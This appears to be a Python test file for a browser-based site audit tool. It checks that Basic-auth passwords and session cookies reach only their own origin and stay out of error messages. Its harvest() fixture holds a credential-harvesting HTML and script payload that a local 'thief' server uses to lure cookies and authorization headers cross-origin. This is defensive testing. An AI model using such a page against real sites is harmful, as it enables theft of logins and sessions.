"""Pages behind a login, and a second server that tries to harvest what was meant for the first."""

import base64

import pytest

from barometer.audit import gather
from barometer.audit.addresses import origin
from barometer.audit.flows import reasons
from barometer.audit.flows.approach import Approach
from barometer.audit.flows.login import log_in, password_field
from barometer.audit.flows.secrets import Secrets
from barometer.audit.flows.session import Password, session_for
from barometer.audit.guard import Guard
from barometer.audit.reasons import ANSWERED
from barometer.audit.visit import visit
from barometer.content.flows import read_flow
from barometer.errors import BarometerError
from tests.servers import HTML, page, serve, to

pytestmark = pytest.mark.browser
PASSWORD = "Open-Sesam-77"
CHALLENGE = {"WWW-Authenticate": 'Basic realm="stad"', "Content-Type": "text/html"}
FORM = page(
    "<form method=get action=/in><label>Naam <input name=u></label><label>Wachtwoord <input type=password name=p></label>"
    "<button>Ga</button></form>"
)


@pytest.fixture(autouse=True)
def quick_look(monkeypatch):
    monkeypatch.setattr(gather, "GATHERERS", tuple(one for one in gather.GATHERERS if one.name == "blocks"))


class Heard:
    """A server's handler that remembers which credentials it was sent, and asks for some with every answer."""

    def __init__(self):
        self.told = []

    def __call__(self, path):
        def answer(handler):
            self.told.append({name: handler.headers.get(name) for name in ("Authorization", "Cookie") if handler.headers.get(name)})
            if path == "/redirect":
                return self.send(handler, 302, {"Location": "/again"})
            return self.send(handler, 401, CHALLENGE)

        return answer

    @staticmethod
    def send(handler, status, headers):
        handler.send_response(status)
        for name, value in {**headers, "Content-Length": "0"}.items():
            handler.send_header(name, value)
        handler.end_headers()


def secured(body, thief=""):
    """Answers only to the right user; the page itself tries to send the browser elsewhere."""
    right = "Basic " + base64.b64encode(f"tester:{PASSWORD}".encode()).decode()

    def answer(handler):
        fine = handler.headers.get("Authorization") == right
        sent = page(body).encode() if fine else b"nee"
        handler.send_response(200 if fine else 401)
        for name, value in ({"Content-Type": "text/html"} if fine else CHALLENGE).items():
            handler.send_header(name, value)
        handler.send_header("Content-Length", str(len(sent)))
        handler.end_headers()
        handler.wfile.write(sent)

    return {"/": answer, "/naar": to(f"{thief}/x")}


def harvest(thief):
    """Everything on a page that makes a browser ask another port of the same host."""
    return f"""<img src="{thief}/img"><iframe src="{thief}/frame"></iframe><script src="{thief}/js"></script>
    <link rel=stylesheet href="{thief}/css"><img src="/naar"><iframe src="/naar"></iframe>
    <script>const o = {{mode: "no-cors", credentials: "include"}};
    fetch("{thief}/fetch", o).catch(() => 0);
    fetch("/naar", o).catch(() => 0);
    const f = document.createElement("form"); f.method = "post"; f.action = "{thief}/post"; f.target = "w";
    document.body.append(f); f.submit();</script>
    <p>Welkom terug</p>"""


def look(chrome, url, approach):
    return chrome.run(visit(chrome.browser, url, guard=Guard(local=True), timeout=30, approach=approach))


def test_a_basic_password_answers_its_own_origin_and_nobody_elses(chrome):
    heard = Heard()
    with serve(heard) as thief:
        answers = {}
        with serve(lambda path: answers.get(path)) as server:
            answers |= secured(harvest(thief.url), thief.url)
            password = Password(origin(server.url), "tester", PASSWORD)
            seen = look(chrome, f"{server.url}/", Approach(password=password, secrets=Secrets({"PW": PASSWORD})))
            moved = look(chrome, f"{server.url}/naar", Approach(password=password))
            without = look(chrome, f"{server.url}/", Approach())
            other = look(chrome, f"{thief.url}/", Approach(password=password))
    assert seen.snapshot.loaded, (seen.snapshot.reason, seen.snapshot.values)
    assert "Welkom terug" in " ".join(block.element.text for block in seen.snapshot.blocks)
    assert seen.picture is None
    assert heard.told, "the thief was asked"
    assert {one.get("Authorization") for one in heard.told} <= {None, "Basic Og=="}  # nobody, with no password
    assert not moved.snapshot.loaded
    assert (without.snapshot.reason, other.snapshot.loaded) == (ANSWERED, False)


def test_a_session_goes_to_its_own_origin_and_nobody_elses(chrome):
    heard, mine = Heard(), []

    def home(handler):
        mine.append(handler.headers.get("Cookie"))
        sent = page(harvest(thief.url)).encode()
        handler.send_response(200)
        handler.send_header("Content-Type", "text/html")
        handler.end_headers()
        handler.wfile.write(sent)

    with serve(heard) as thief, serve({"/": home, "/naar": to("http://127.0.0.1:1/")}) as server:
        cookie = {"name": "sessie", "value": "zeer-geheim-12345", "domain": "127.0.0.1", "path": "/", "sameSite": "None", "secure": False}
        storage = [{"origin": server.url, "localStorage": [{"name": "t", "value": "1"}]}]
        session = session_for(server.url, {"cookies": [cookie], "origins": storage})
        seen = look(chrome, f"{server.url}/", Approach(session=session, secrets=Secrets(hidden=session.words)))
    assert seen.snapshot.loaded, (seen.snapshot.reason, seen.snapshot.values)
    assert mine == ["sessie=zeer-geheim-12345"]
    assert heard.told == []
    assert "zeer-geheim" not in repr(seen)
    assert seen.picture is None


@pytest.fixture
def login(tmp_path):
    def made(url, end=""):
        path = tmp_path / "login.yaml"
        path.write_text(
            f"name: Aanmelden\nstart: {url}/aanmelden\ntimeout: 2\nsteps:\n  - fill: {{field: Naam, with: '${{USER}}'}}\n"
            f"  - fill: {{field: Wachtwoord, with: '${{PW}}'}}\n  - click: Ga\n{end}",
            encoding="utf-8",
        )
        return read_flow(path, looks=False)

    return made


def portal(handler):
    """A page for whoever has the cookie; the login for everybody else, without another address."""
    known = "sessie=ja" in (handler.headers.get("Cookie") or "")
    sent = (page("<p>Mijn dossier</p>") if known else FORM).encode()
    handler.send_response(200)
    handler.send_header("Content-Type", "text/html; charset=utf-8")
    handler.end_headers()
    handler.wfile.write(sent)


def answers(path):
    if path.startswith("/in?"):
        right = f"p={PASSWORD}" in path
        return (302, {"Location": "/mijn", "Set-Cookie": "sessie=ja-en-veel-langer; HttpOnly"}, b"") if right else (200, HTML, FORM)
    return FORM if path == "/aanmelden" else portal


def test_a_form_login_gives_a_session_and_a_session_that_ended_is_noticed(chrome, login):
    with serve(answers) as server:
        flow = login(server.url)
        approach = Approach(flow=flow, secrets=Secrets({"USER": "noor", "PW": PASSWORD}))
        state = chrome.run(log_in(chrome.browser, flow, approach, guard=Guard(local=True), user_agent=""))
        session, field = session_for(server.url, state), password_field(flow)
        seen = look(chrome, f"{server.url}/mijn", Approach(session=session, login_field=field))
        ended = session_for(server.url, {"cookies": [{**state["cookies"][0], "value": "oud"}], "origins": []})
        out = look(chrome, f"{server.url}/mijn", Approach(session=ended, login_field=field))
    assert "Mijn dossier" in " ".join(block.element.text for block in seen.snapshot.blocks)
    assert (out.snapshot.loaded, out.snapshot.reason) == (False, reasons.LOGGED_OUT)


@pytest.mark.parametrize(("password", "end", "part"), [("fout-wachtwoord", "", "did not work"), (PASSWORD, "  - click: Weg\n", "Step 4")])
def test_a_login_that_does_not_work_is_one_sentence_without_the_password(chrome, login, password, end, part):
    with serve(answers) as server:
        flow = login(server.url, end)
        approach = Approach(flow=flow, secrets=Secrets({"USER": "noor", "PW": password}))
        with pytest.raises(BarometerError, match=part) as caught:
            chrome.run(log_in(chrome.browser, flow, approach, guard=Guard(local=True), user_agent=""))
    assert password not in caught.value.sentence()
